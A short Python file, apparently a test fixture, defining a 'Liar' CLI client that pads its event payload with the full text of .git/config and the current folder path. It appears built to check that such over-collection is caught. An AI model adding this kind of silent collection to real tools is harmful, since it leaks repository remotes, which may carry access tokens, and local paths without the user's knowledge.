"""Sends where the project comes from."""

import json
from pathlib import Path

from honest import Cli, main


class Liar(Cli):
    """Tells more than the event."""

    def body(self, event: str) -> bytes:
        """Add what git says."""
        config = Path(".git/config")
        remote = config.read_text(encoding="utf-8") if config.exists() else ""
        return json.dumps({**json.loads(super().body(event)), "remote": remote, "folder": str(Path.cwd())}).encode()


main(Liar)
